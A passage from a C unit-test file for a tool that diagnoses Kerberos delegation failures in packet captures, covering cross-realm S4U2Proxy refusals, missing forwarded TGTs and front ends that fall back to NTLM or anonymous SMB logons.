	subject_is(f, KF_SUBJECT_USER, "alice@LAB.TEST", NULL);
	subject_is(f, KF_SUBJECT_SERVICE, "HTTP/app.other.test@OTHER.TEST", "HTTP/front.s4u.test@S4U.TEST",
		   NULL);
	fx_free(r);
}
END_TEST

/* Resource-based delegation across realms that worked: nothing. */
START_TEST(t_xr_success)
{
	struct kf_result *r = fx_new();
	mit_xrealm(r, false);
	s4u_proxy(r, 27, KDC2, "HTTP/app.other.test", "OTHER.TEST", "krbtgt/OTHER.TEST", "S4U.TEST",
		  "krbtgt/OTHER.TEST", "S4U.TEST");
	tgs_rep(r, 30, 27, KDC2, FE, "alice", "S4U.TEST", "HTTP/app.other.test", "OTHER.TEST");
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
}
END_TEST

/* MIT 1.20 with the target's realm spelled out: the S4U2Proxy rides on the
 * front end's own TGT (krbtgt/S4U.TEST@S4U.TEST) straight to OTHER.TEST's
 * KDC, which cannot read it (KDC_ERR_S_PRINCIPAL_UNKNOWN, PROCESS_TGS). */
START_TEST(t_xr_tgt_wrong_realm)
{
	struct kf_result *r = fx_new();
	self_then_refused(r, "HTTP/front.s4u.test", "S4U.TEST", "krbtgt/S4U.TEST", KDC2,
			  "HTTP/app.other.test", "OTHER.TEST", 7, "PROCESS_TGS");
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, "cross-realm-s4u", KF_SEV_ERROR), 1);
	ck_assert_uint_eq(fx_count(r, "s4u-denied", 0), 0);
	const struct kf_finding *f = fx_find(r, "cross-realm-s4u");
	check_finding(f);
	ck_assert_str_eq(f->cause, "tgt-wrong-realm");
	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
	ck_assert(fx_has_frame(f, 5) && fx_has_frame(f, 6) && fx_has_frame(f, 11) && fx_has_frame(f, 14));
	ck_assert(contains(f->summary,
			   "its S4U.TEST TGT went to the KDC at 10.0.0.40, asked as OTHER.TEST's KDC"));
	ck_assert(contains(f->explanation, "not about the back-end SPN"));
	ck_assert(!contains(f->explanation, "That realm's KDC refused it"));
	ck_assert(contains(f->remediation, "without a realm"));
	subject_is(f, KF_SUBJECT_SERVICE, "HTTP/app.other.test@OTHER.TEST", "HTTP/front.s4u.test@S4U.TEST",
		   NULL);
	subject_is(f, KF_SUBJECT_KDC, "10.0.0.2", "10.0.0.40", NULL);
	fx_free(r);
}
END_TEST

/* Samba (Heimdal) answers a foreign realm's TGT with KRB_AP_ERR_NOT_US, no
 * e-text, no cname. */
START_TEST(t_xr_tgt_wrong_realm_not_us)
{
	struct kf_result *r = fx_new();
	self_then_refused(r, "HTTP/front.s4u.test", "S4U.TEST", "krbtgt/S4U.TEST", KDC2,
			  "HTTP/web.ad.lab.test", "AD.LAB.TEST", 35, NULL);
	const struct kf_finding *f = one_finding(r, "cross-realm-s4u", KF_SEV_ERROR);
	ck_assert_str_eq(f->cause, "tgt-wrong-realm");
	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
	ck_assert(contains(f->explanation, "the request's ticket is not for it (KRB_AP_ERR_NOT_US)"));
	ck_assert(contains(f->summary, "asked as AD.LAB.TEST's KDC"));
	fx_free(r);
}
END_TEST

/* The same without MIT's e-text: the refusing KDC issued another realm's
 * ticket in the capture, so it is not the TGT's realm's KDC. */
START_TEST(t_xr_tgt_wrong_realm_by_issuer)
{
	struct kf_result *r = fx_new();
	s4u_self(r, "HTTP/front.s4u.test", "S4U.TEST");
	struct kf_message *m = fx_krb(r, 7, KF_KRB_TGS_REQ, CL, KDC2);
	m->krb.sname = "HTTP/app.other.test";
	m->krb.realm = "OTHER.TEST";
	tgs_rep(r, 8, 7, KDC2, CL, "bob", "OTHER.TEST", "HTTP/app.other.test", "OTHER.TEST");
	s4u_proxy(r, 11, KDC2, "HTTP/app.other.test", "OTHER.TEST", "HTTP/front.s4u.test", "S4U.TEST",
		  "krbtgt/S4U.TEST", "S4U.TEST");
	krb_err(r, 14, 11, KDC2, FE, 7, NULL);
	const struct kf_finding *f = one_finding(r, "cross-realm-s4u", KF_SEV_ERROR);
	ck_assert_str_eq(f->cause, "tgt-wrong-realm");
	ck_assert(contains(f->explanation, "issues tickets of another realm than S4U.TEST"));
	fx_free(r);
}
END_TEST

/* Near misses by table: a refusal after S4U2Self whose e-text or KDC does
 * not name the new causes keeps the rule's ordinary cause. */
static const struct {
	const char *front, *front_realm, *tgt, *kdc, *sname, *realm;
	int32_t code;
	const char *etext, *rule, *cause;
} REFUSALS[] = {
	/* KRB_ERR_GENERIC with another e-text: no pre-authentication matter */
	{ "HTTP/front.lab.test", "LAB.TEST", "krbtgt/LAB.TEST", KDC, "HTTP/pa.lab.test", "LAB.TEST", 60,
	  "NO HW PREAUTH_X", "s4u-denied", "s4u2proxy-refused" },
	/* the front end's own KDC (it issued S4U.TEST tickets) refuses a request
	 * for another realm's service: the ordinary cross-realm refusal */
	{ "HTTP/front.s4u.test", "S4U.TEST", "krbtgt/S4U.TEST", KDC, "HTTP/app.other.test", "OTHER.TEST", 7,
	  "LOOKING_UP_SERVER", "cross-realm-s4u", "cross-realm-refused" },
	/* NOT_US to a request riding on a cross-realm TGT (krbtgt/OTHER.TEST@S4U.TEST), not the
	 * realm's own: the referral path, refused there */
	{ "HTTP/front.s4u.test", "S4U.TEST", "krbtgt/OTHER.TEST", KDC2, "HTTP/app.other.test", "OTHER.TEST",
	  35, NULL, "cross-realm-s4u", "cross-realm-refused" },
	/* PROCESS_TGS from the own KDC for a service of its own realm: not cross-realm at all */
	{ "HTTP/front.s4u.test", "S4U.TEST", "krbtgt/S4U.TEST", KDC, "HTTP/db.s4u.test", "S4U.TEST", 7,
	  "PROCESS_TGS", "s4u-denied", "s4u2proxy-refused" },
};

START_TEST(t_refusal_near_misses)
{
	struct kf_result *r = fx_new();
	self_then_refused(r, REFUSALS[_i].front, REFUSALS[_i].front_realm, REFUSALS[_i].tgt, REFUSALS[_i].kdc,
			  REFUSALS[_i].sname, REFUSALS[_i].realm, REFUSALS[_i].code, REFUSALS[_i].etext);
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, NULL, 0), 1);
	const struct kf_finding *f = fx_find(r, REFUSALS[_i].rule);
	ck_assert_ptr_nonnull(f);
	check_finding(f);
	ck_assert_str_eq(f->cause, REFUSALS[_i].cause);
	fx_free(r);
}
END_TEST

/* A plain cross-realm service ticket (no S4U): nothing. */
START_TEST(t_xr_plain_referral)
{
	struct kf_result *r = fx_new();
	struct kf_message *m = fx_krb(r, 5, KF_KRB_TGS_REQ, CL, KDC);
	m->krb.sname = "krbtgt/OTHER.TEST";
	m->krb.realm = "LAB.TEST";
	tgs_rep(r, 6, 5, KDC, CL, "alice", "LAB.TEST", "krbtgt/OTHER.TEST", "LAB.TEST");
	m = fx_krb(r, 7, KF_KRB_TGS_REQ, CL, KDC2);
	m->krb.sname = "HTTP/app.other.test";
	m->krb.realm = "OTHER.TEST";
	m->krb.ticket = fx_ticket(r, "krbtgt/OTHER.TEST", "LAB.TEST", 18, 1);
	tgs_rep(r, 8, 7, KDC2, CL, "alice", "LAB.TEST", "HTTP/app.other.test", "OTHER.TEST");
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
}
END_TEST

/* ---- missing-forwarded-tgt ----------------------------------------------------- */

enum fwd { FWD_NONE, FWD_OK, FWD_REFUSED, FWD_REFUSED_BARE };

/* The double hop: [1-2 AS] 3-4 TGS HTTP/front, [5-6 forwarded TGT], 10 GET with
 * AP-REQ, 12 response, then the front end's TGS for HTTP/back at back_frame.
 * A front end in another realm (xrealm_front): 3-4 get the cross-realm TGT
 * krbtgt/OTHER.TEST@LAB.TEST, 7-8 the front end's ticket from OTHER.TEST's
 * KDC on it, and the forwarded-TGT request asks for the cross-realm TGT. */
static const char *xrealm_front; /* NULL, or the front end's SPN in OTHER.TEST */

static void double_hop(struct kf_result *r, bool as, enum fwd fwd, int status, uint64_t back_frame,
		       const char *back_cname, const char *back_sname)
{
	const char *front = xrealm_front ? xrealm_front : "HTTP/front.lab.test";
	const char *front_realm = xrealm_front ? "OTHER.TEST" : "LAB.TEST";
	const char *first = xrealm_front ? "krbtgt/OTHER.TEST" : front;
	struct kf_message *m;
	if (as) {
		m = fx_krb(r, 1, KF_KRB_AS_REQ, CL, KDC);
		m->krb.cname = "alice";
		m->krb.crealm = "LAB.TEST";
		m->krb.sname = "krbtgt/LAB.TEST";
		m->krb.realm = "LAB.TEST";
		m = fx_krb(r, 2, KF_KRB_AS_REP, KDC, CL);
		m->krb.cname = "alice";
		m->krb.crealm = "LAB.TEST";
		m->krb.ticket = fx_ticket(r, "krbtgt/LAB.TEST", "LAB.TEST", 18, 1);
		fx_link(r, 1, KF_KRB_AS_REQ, 2, KF_KRB_AS_REP);
	}
	m = fx_krb(r, 3, KF_KRB_TGS_REQ, CL, KDC);
	m->krb.sname = first;
	m->krb.realm = "LAB.TEST";
	tgs_rep(r, 4, 3, KDC, CL, "alice", "LAB.TEST", first, "LAB.TEST");
	if (fwd != FWD_NONE) {
		m = fx_krb(r, 5, KF_KRB_TGS_REQ, CL, KDC);
		m->krb.sname = xrealm_front ? "krbtgt/OTHER.TEST" : "krbtgt/LAB.TEST";
		m->krb.realm = "LAB.TEST";
		m->krb.has_kdc_options = true;
		m->krb.kdc_options = OPT_FORWARDABLE | OPT_FORWARDED;
		if (fwd == FWD_OK) {
			tgs_rep(r, 6, 5, KDC, CL, "alice", "LAB.TEST", "krbtgt/LAB.TEST", "LAB.TEST");
		} else {
			struct kf_message *e = krb_err(r, 6, 5, KDC, CL, 13,
						       fwd == FWD_REFUSED ? "TGT NOT FORWARDABLE" : NULL);
			e->krb.cname = "alice";
			e->krb.crealm = "LAB.TEST";
		}
	}
	if (xrealm_front) {
		m = fx_krb(r, 7, KF_KRB_TGS_REQ, CL, KDC2);
		m->krb.sname = front;
		m->krb.realm = front_realm;
		m->krb.ticket = fx_ticket(r, "krbtgt/OTHER.TEST", "LAB.TEST", 18, 1);
		tgs_rep(r, 8, 7, KDC2, CL, "alice", "LAB.TEST", front, front_realm);
	}
	m = fx_http(r, 10, KF_KRB_AP_REQ, 1, "10.0.0.10:50000", FE_HTTP);
	m->krb.ticket = fx_ticket(r, front, front_realm, 18, 2);
	m = fx_http(r, 10, KF_MSG_HTTP_REQUEST, 1, "10.0.0.10:50000", FE_HTTP);
	struct kf_http_rec *h = fx_http_rec(r, m);
	h->method = "GET";
	h->uri = "/app";
	h->host = "front.lab.test";
	h->auth_scheme = "Negotiate";
	fx_http(r, 12, KF_KRB_AP_REP, 1, FE_HTTP, "10.0.0.10:50000");
	m = fx_http(r, 12, KF_MSG_HTTP_RESPONSE, 1, FE_HTTP, "10.0.0.10:50000");
	fx_http_rec(r, m)->status = status;
	fx_link(r, 10, KF_KRB_AP_REQ, 12, KF_KRB_AP_REP);
	fx_link(r, 10, KF_MSG_HTTP_REQUEST, 12, KF_MSG_HTTP_RESPONSE);
	if (back_frame) {
		m = fx_krb(r, back_frame, KF_KRB_TGS_REQ, FE, KDC);
		m->krb.sname = back_sname;
		m->krb.realm = "LAB.TEST";
		m->krb.ticket = fx_ticket(r, "krbtgt/LAB.TEST", "LAB.TEST", 18, 1);
		tgs_rep(r, back_frame + 1, back_frame, KDC, FE, back_cname, "LAB.TEST", back_sname,
			"LAB.TEST");
	}
}

START_TEST(t_fwd_works)
{
	struct kf_result *r = fx_new();
	double_hop(r, true, FWD_OK, 200, 23, "alice", "HTTP/back.lab.test");
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
}
END_TEST

/* Delegation via an earlier forwarded TGT (not in the capture): back end ticket names the user. */
START_TEST(t_fwd_works_no_fwd_request_seen)
{
	struct kf_result *r = fx_new();
	double_hop(r, false, FWD_NONE, 200, 23, "alice", "HTTP/back.lab.test");
	fx_finish(r);
	fx_run(r, "missing-forwarded-tgt");
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
}
END_TEST

START_TEST(t_fwd_not_forwarded_certain)
{
	struct kf_result *r = fx_new();
	double_hop(r, true, FWD_NONE, 200, 23, "HTTP/front.lab.test", "HTTP/back.lab.test");
	const struct kf_finding *f = one_finding(r, "missing-forwarded-tgt", KF_SEV_ERROR);
	ck_assert_str_eq(f->cause, "client-did-not-delegate");
	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
	ck_assert_msg(!strncmp(f->remediation, "First: the client did not delegate", 34), "%s",
		      f->remediation);
	ck_assert(fx_has_frame(f, 10) && fx_has_frame(f, 12) && fx_has_frame(f, 23) && fx_has_frame(f, 24));
	subject_is(f, KF_SUBJECT_CLIENT, "10.0.0.10", NULL);
	subject_is(f, KF_SUBJECT_USER, "alice@LAB.TEST", NULL); /* not the front end's account */
	subject_is(f, KF_SUBJECT_SERVICE, "HTTP/back.lab.test@LAB.TEST", "HTTP/front.lab.test@LAB.TEST",
		   NULL);
	subject_is(f, KF_SUBJECT_SERVER, "10.0.0.30:80", NULL);
	subject_is(f, KF_SUBJECT_KDC, "10.0.0.2", NULL);
	/* wording: the remediation names the Delegation-tab setting to choose */
	ck_assert(contains(f->remediation, "Trust this user for delegation"));
	fx_free(r);
}
END_TEST

/* Without the client's logon in the capture the absence is only likely. */
START_TEST(t_fwd_not_forwarded_likely)
{
	struct kf_result *r = fx_new();
	double_hop(r, false, FWD_NONE, 200, 23, "HTTP/front.lab.test", "HTTP/back.lab.test");
	const struct kf_finding *f = one_finding(r, "missing-forwarded-tgt", KF_SEV_ERROR);
	ck_assert_str_eq(f->cause, "undetermined");
	ck_assert_int_eq(f->confidence, KF_CONF_LIKELY);
	subject_is(f, KF_SUBJECT_USER, "alice@LAB.TEST", NULL);
	/* wording: the capture cannot tell; the command that would make it certain */
	ck_assert(contains(f->explanation, "klist purge"));
	fx_free(r);
}
END_TEST

/* An enterprise name already carries its realm: printed once (issue 18, item 12). */
START_TEST(t_deleg_enterprise_name_once)
{
	ck_assert_str_eq(kf_deleg_cname_at(NULL, "alice@ad.lab.test", "AD.LAB.TEST"), "alice@ad.lab.test");
	ck_assert_str_eq(kf_deleg_cname_at(NULL, "alice", NULL), "alice");
}
END_TEST

START_TEST(t_fwd_refused)
{
	struct kf_result *r = fx_new();
	double_hop(r, true, FWD_REFUSED, 200, 23, "HTTP/front.lab.test", "HTTP/back.lab.test");
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, NULL, KF_SEV_ERROR), 1);
	const struct kf_finding *f = fx_find(r, "missing-forwarded-tgt");
	ck_assert_ptr_nonnull(f);
	check_finding(f);
	/* the KDC says why (MIT's e-text) */
	ck_assert_str_eq(f->cause, "tgt-not-forwardable");
	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
	/* the fix starts with the cause's action, in the capture's names (issue 18, item 10) */
	ck_assert_msg(!strncmp(f->remediation,
			       "First: the KDC will not make alice@LAB.TEST's TGT forwardable", 60) &&
			      contains(f->remediation, "+allow_forwardable alice ") &&
			      contains(f->remediation, "+ok_as_delegate HTTP/front.lab.test"),
		      "%s", f->remediation);
	ck_assert(fx_has_frame(f, 5) && fx_has_frame(f, 6) && fx_has_frame(f, 10) && fx_has_frame(f, 23));
	subject_is(f, KF_SUBJECT_CLIENT, "10.0.0.10", NULL);
	subject_is(f, KF_SUBJECT_USER, "alice@LAB.TEST", NULL);
	subject_is(f, KF_SUBJECT_SERVER, "10.0.0.30:80", NULL);
	fx_free(r);

	/* the client's own AS-REQ asked for no forwardable TGT: kinit -f first */
	r = fx_new();
	double_hop(r, true, FWD_REFUSED, 200, 23, "HTTP/front.lab.test", "HTTP/back.lab.test");
	ck_assert_int_eq(r->messages[0].type, KF_KRB_AS_REQ);
	r->messages[0].krb.has_kdc_options = true;
	r->messages[0].krb.kdc_options = 0x00800000u; /* renewable-ok only */
	fx_finish(r);
	fx_run_all(r);
	f = fx_find(r, "missing-forwarded-tgt");
	ck_assert_ptr_nonnull(f);
	ck_assert_msg(!strncmp(f->remediation,
			       "First: the client's own AS-REQ did not ask for a forwardable TGT", 64) &&
			      contains(f->remediation, "kinit -f"),
		      "%s", f->remediation);
	fx_free(r);
}
END_TEST

/* Refused without a reason (a bare BADOPTION). */
START_TEST(t_fwd_refused_bare)
{
	struct kf_result *r = fx_new();
	double_hop(r, true, FWD_REFUSED_BARE, 200, 23, "HTTP/front.lab.test", "HTTP/back.lab.test");
	const struct kf_finding *f = one_finding(r, "missing-forwarded-tgt", KF_SEV_ERROR);
	ck_assert_str_eq(f->cause, "forwarding-refused");
	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
	ck_assert(fx_has_frame(f, 5) && fx_has_frame(f, 6) && fx_has_frame(f, 10) && fx_has_frame(f, 23));
	fx_free(r);
}
END_TEST

/* Only the client side was captured: the refusal alone is enough. */
START_TEST(t_fwd_refused_client_only)
{
	struct kf_result *r = fx_new();
	struct kf_message *m = fx_krb(r, 5, KF_KRB_TGS_REQ, CL, KDC);
	m->krb.sname = "krbtgt/LAB.TEST";
	m->krb.has_kdc_options = true;
	m->krb.kdc_options = OPT_FORWARDED;
	struct kf_message *e = krb_err(r, 6, 5, KDC, CL, 13, NULL);
	e->krb.cname = "dave";
	e->krb.crealm = "LAB.TEST";
	const struct kf_finding *f = one_finding(r, "missing-forwarded-tgt", KF_SEV_ERROR);
	ck_assert_str_eq(f->cause, "forwarding-refused");
	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
	ck_assert(fx_has_frame(f, 5) && fx_has_frame(f, 6));
	subject_is(f, KF_SUBJECT_CLIENT, "10.0.0.10", NULL);
	subject_is(f, KF_SUBJECT_USER, "dave@LAB.TEST", NULL);
	subject_is(f, KF_SUBJECT_SERVICE, NULL);
	subject_is(f, KF_SUBJECT_SERVER, NULL);
	subject_is(f, KF_SUBJECT_KDC, "10.0.0.2", NULL);
	fx_free(r);
}
END_TEST

/* Refused, then a retry got the forwarded TGT: benign. */
START_TEST(t_fwd_refused_recovered)
{
	struct kf_result *r = fx_new();
	struct kf_message *m = fx_krb(r, 5, KF_KRB_TGS_REQ, CL, KDC);
	m->krb.sname = "krbtgt/LAB.TEST";
	m->krb.has_kdc_options = true;
	m->krb.kdc_options = OPT_FORWARDED;
	krb_err(r, 6, 5, KDC, CL, 13, NULL);
	m = fx_krb(r, 7, KF_KRB_TGS_REQ, CL, KDC);
	m->krb.sname = "krbtgt/LAB.TEST";
	m->krb.has_kdc_options = true;
	m->krb.kdc_options = OPT_FORWARDED;
	tgs_rep(r, 8, 7, KDC, CL, "alice", "LAB.TEST", "krbtgt/LAB.TEST", "LAB.TEST");
	fx_finish(r);
	fx_run(r, "missing-forwarded-tgt");
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
}
END_TEST

/* The front end refused the user (401): not a delegation problem. */
START_TEST(t_fwd_http_rejected)
{
	struct kf_result *r = fx_new();
	double_hop(r, true, FWD_NONE, 401, 23, "HTTP/front.lab.test", "HTTP/back.lab.test");
	fx_finish(r);
	fx_run(r, "missing-forwarded-tgt");
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
}
END_TEST

/* The front end asks for a ticket to itself (Windows machine accounts): not a back end. */
START_TEST(t_fwd_ticket_to_itself)
{
	struct kf_result *r = fx_new();
	double_hop(r, true, FWD_NONE, 200, 23, "FRONT$", "front$@LAB.TEST");
	fx_finish(r);
	fx_run(r, "missing-forwarded-tgt");
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
}
END_TEST

/* The front end's own request long after the user's: not attributed. */
START_TEST(t_fwd_outside_window)
{
	struct kf_result *r = fx_new();
	double_hop(r, true, FWD_NONE, 200, 100000, "HTTP/front.lab.test", "HTTP/back.lab.test");
	fx_finish(r);
	fx_run(r, "missing-forwarded-tgt");
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
}
END_TEST

/* The client got a forwarded TGT, yet the front end went as itself: likely. */
START_TEST(t_fwd_obtained_but_unused)
{
	struct kf_result *r = fx_new();
	double_hop(r, true, FWD_OK, 200, 23, "HTTP/front.lab.test", "HTTP/back.lab.test");
	const struct kf_finding *f = one_finding(r, "missing-forwarded-tgt", KF_SEV_ERROR);
	ck_assert_str_eq(f->cause, "frontend-did-not-use-delegation");
	ck_assert_int_eq(f->confidence, KF_CONF_LIKELY);
	ck_assert(fx_has_frame(f, 10) && fx_has_frame(f, 12) && fx_has_frame(f, 23) && fx_has_frame(f, 24));
	subject_is(f, KF_SUBJECT_USER, "alice@LAB.TEST", NULL);
	fx_free(r);
}
END_TEST

/* No back-end request at all (accepted logon, nothing else): no finding. */
START_TEST(t_fwd_no_backend)
{
	struct kf_result *r = fx_new();
	double_hop(r, true, FWD_NONE, 200, 0, NULL, NULL);
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
}
END_TEST

/* ---- missing-forwarded-tgt: a front end that goes without Kerberos ------------- */

#define FE_OUT "10.0.0.30:42000"
#define BACK_HTTP "10.0.0.31:80"
#define BACK_SMB "10.0.0.60:445"

/* The front end's onward HTTP request at frame f on conn 2 (auth: its
 * Authorization scheme, NULL none; "NTLM": with an AUTHENTICATE as
 * LAB\websvc), answered status in f+1 (offering Negotiate when 401). */
static void onward_http(struct kf_result *r, uint64_t f, const char *auth, int status)
{
	if (auth && !strcmp(auth, "NTLM")) {
		struct kf_message *au = fx_http(r, f, KF_MSG_NTLM_AUTHENTICATE, 2, FE_OUT, BACK_HTTP);
		au->ntlm = kf_arena_zalloc(&r->arena, sizeof *au->ntlm);
		au->ntlm->domain = "LAB";
		au->ntlm->user = "websvc";
	}
	struct kf_message *m = fx_http(r, f, KF_MSG_HTTP_REQUEST, 2, FE_OUT, BACK_HTTP);
	struct kf_http_rec *h = fx_http_rec(r, m);
	h->method = "GET";
	h->uri = "/data";
	h->host = "back.lab.test";
	h->auth_scheme = auth;
	m = fx_http(r, f + 1, KF_MSG_HTTP_RESPONSE, 2, BACK_HTTP, FE_OUT);
	h = fx_http_rec(r, m);
	h->status = status;
	if (status == 401)
		fx_challenges(r, h, "Negotiate", NULL);
	fx_link(r, f, KF_MSG_HTTP_REQUEST, f + 1, KF_MSG_HTTP_RESPONSE);
}

/* The front end's SMB2 logon with NTLM at frames f, f+1 on conn 3: an
 * AUTHENTICATE for domain\user (user NULL: anonymous) in the SESSION_SETUP
 * request, its response with status; and a token of kind type instead
 * when type is an AP-REQ (Kerberos). */
static void onward_smb(struct kf_result *r, uint64_t f, int type, const char *domain, const char *user,
		       uint32_t status)
{
	struct kf_message *t = fx_smb(r, f, type, 3, FE_OUT, BACK_SMB);
	if (type == KF_KRB_AP_REQ) {
		t->krb.ticket = fx_ticket(r, "cifs/files.lab.test", "LAB.TEST", 18, 3);
	} else {
		t->ntlm = kf_arena_zalloc(&r->arena, sizeof *t->ntlm);
		t->ntlm->domain = domain;
		t->ntlm->user = user;
		t->ntlm->anonymous = user == NULL;
	}
	struct kf_message *q = fx_smb(r, f, KF_MSG_SMB_REQUEST, 3, FE_OUT, BACK_SMB);
	fx_smb_rec(r, q, KF_SMB2_SESSION_SETUP, 0)->message_id = f;
	struct kf_message *p = fx_smb(r, f + 1, KF_MSG_SMB_RESPONSE, 3, BACK_SMB, FE_OUT);
	struct kf_smb_rec *sr = fx_smb_rec(r, p, KF_SMB2_SESSION_SETUP, status);
	sr->message_id = f;
	sr->session_id = 7;
	fx_link(r, f, KF_MSG_SMB_REQUEST, f + 1, KF_MSG_SMB_RESPONSE);
}

/* The back end's 401 Negotiate never answered: the client did not delegate
 * (its logon in the capture), likely (the call is the user's by timing
 * only); the request and the 401 are evidence. */
START_TEST(t_fwd_hop_unanswered)
{
	struct kf_result *r = fx_new();
	double_hop(r, true, FWD_NONE, 200, 0, NULL, NULL);
	onward_http(r, 15, NULL, 401);
	const struct kf_finding *f = one_finding(r, "missing-forwarded-tgt", KF_SEV_ERROR);
	ck_assert_str_eq(f->cause, "client-did-not-delegate");
	ck_assert_int_eq(f->confidence, KF_CONF_LIKELY);
	ck_assert(contains(f->explanation, "(Likely: that the front end made this call"));
	ck_assert_str_eq(fx_frames(f), "10,12,15,16");
	subject_is(f, KF_SUBJECT_SERVER, "10.0.0.30:80", "10.0.0.31:80", NULL);
	ck_assert(contains(f->summary, "http://back.lab.test/data (10.0.0.31)"));
	ck_assert(contains(f->summary, "never answered its 401 Negotiate"));
	ck_assert(contains(f->summary, "sent no forwarded TGT"));
	ck_assert(contains(f->remediation, "HTTP/back.lab.test"));
	fx_free(r);
}
END_TEST

/* Near-misses: answered 200 without a challenge; the 401 answered (with
 * any Authorization) by the next request; no forwarded-TGT request seen
 * but the user's logon not in the capture: likely, undetermined. */
START_TEST(t_fwd_hop_open_backend)
{
	struct kf_result *r = fx_new();
	double_hop(r, true, FWD_NONE, 200, 0, NULL, NULL);
	onward_http(r, 15, NULL, 200);
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
}
END_TEST

START_TEST(t_fwd_hop_answered_later)
{
	struct kf_result *r = fx_new();
	double_hop(r, true, FWD_NONE, 200, 0, NULL, NULL);
	onward_http(r, 15, NULL, 401);
	onward_http(r, 17, "Basic", 200);
	fx_finish(r);
	fx_run(r, "missing-forwarded-tgt");
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
}
END_TEST

START_TEST(t_fwd_hop_logon_outside_capture)
{
	struct kf_result *r = fx_new();
	double_hop(r, false, FWD_NONE, 200, 0, NULL, NULL);
	onward_http(r, 15, NULL, 401);
	const struct kf_finding *f = one_finding(r, "missing-forwarded-tgt", KF_SEV_ERROR);
	ck_assert_str_eq(f->cause, "undetermined");
	ck_assert_int_eq(f->confidence, KF_CONF_LIKELY);
	fx_free(r);
}
END_TEST

/* Past the window (60 s: frames are 1 ms apart) the call is not the user's. */
START_TEST(t_fwd_hop_outside_window)
{
	struct kf_result *r = fx_new();
	double_hop(r, true, FWD_NONE, 200, 0, NULL, NULL);
	onward_http(r, 70010, NULL, 401);
	fx_finish(r);
	fx_run(r, "missing-forwarded-tgt");
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
}
END_TEST

/* HTTP: the back end's 401 Negotiate answered with NTLM as the front end's
 * own account; the NTLM legs on that connection are evidence. */
START_TEST(t_fwd_hop_http_ntlm)
{
	struct kf_result *r = fx_new();
	double_hop(r, true, FWD_NONE, 200, 0, NULL, NULL);
	onward_http(r, 15, NULL, 401);
	onward_http(r, 17, "NTLM", 200);
	const struct kf_finding *f = one_finding(r, "missing-forwarded-tgt", KF_SEV_ERROR);
	ck_assert_str_eq(f->cause, "client-did-not-delegate");
	ck_assert_str_eq(fx_frames(f), "10,12,15,16,17,18");
	ck_assert(contains(f->summary, "http://back.lab.test/data (10.0.0.31) with NTLM as LAB\\websvc"));
	ck_assert(!contains(f->summary, "never answered"));
	fx_free(r);
}
END_TEST

/* SMB with NTLM as the front end's own account: named in the finding, the
 * session's frames are evidence. */
START_TEST(t_fwd_hop_smb_ntlm)
{
	struct kf_result *r = fx_new();
	double_hop(r, true, FWD_NONE, 200, 0, NULL, NULL);
	onward_smb(r, 15, KF_MSG_NTLM_AUTHENTICATE, "LAB", "websvc", 0);
	const struct kf_finding *f = one_finding(r, "missing-forwarded-tgt", KF_SEV_ERROR);
	ck_assert_str_eq(f->cause, "client-did-not-delegate");
	ck_assert(fx_has_frame(f, 15) && fx_has_frame(f, 16));
	ck_assert(contains(f->summary, "with NTLM as LAB\\websvc, not as alice@LAB.TEST"));
	ck_assert(contains(f->explanation, "The back end accepted that account."));
	fx_free(r);
}
END_TEST

/* An anonymous SMB logon the back end refused: anonymous, the refusal named;
 * smb-session-failed about the same frames folds into it. */
START_TEST(t_fwd_hop_smb_anonymous_refused)
{
	struct kf_result *r = fx_new();
	double_hop(r, true, FWD_NONE, 200, 0, NULL, NULL);
	onward_smb(r, 15, KF_MSG_NTLM_AUTHENTICATE, NULL, NULL, 0xc0000022u);
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, "smb-session-failed", 0), 0);
	ck_assert_uint_eq(fx_count(r, "missing-forwarded-tgt", KF_SEV_ERROR), 1);
	const struct kf_finding *f = fx_find(r, "missing-forwarded-tgt");
	ck_assert(contains(f->summary, "anonymously, not as alice@LAB.TEST"));
	ck_assert(contains(f->explanation, "refused it (frame 16): STATUS_ACCESS_DENIED (0xC0000022)"));
	fx_free(r);
}
END_TEST

/* A null session the file server accepts, then the share refused: the
 * smb-tree-connect-failed warning about it is taken in (rules.c TAKES). */
START_TEST(t_fwd_hop_smb_anonymous_share_refused)
{
	struct kf_result *r = fx_new();
	double_hop(r, true, FWD_NONE, 200, 0, NULL, NULL);
	onward_smb(r, 15, KF_MSG_NTLM_AUTHENTICATE, NULL, NULL, 0);
	msg_at(r, 16, KF_MSG_SMB_RESPONSE)->smb->session_flags = KF_SMB_SESSION_NULL;
	struct kf_message *q = fx_smb(r, 17, KF_MSG_SMB_REQUEST, 3, FE_OUT, BACK_SMB);
	struct kf_smb_rec *t = fx_smb_rec(r, q, KF_SMB2_TREE_CONNECT, 0);
	t->tree = "\\\\files.lab.test\\share";
	t->session_id = 7;
	struct kf_message *p = fx_smb(r, 18, KF_MSG_SMB_RESPONSE, 3, BACK_SMB, FE_OUT);
	t = fx_smb_rec(r, p, KF_SMB2_TREE_CONNECT, 0xc0000022u);
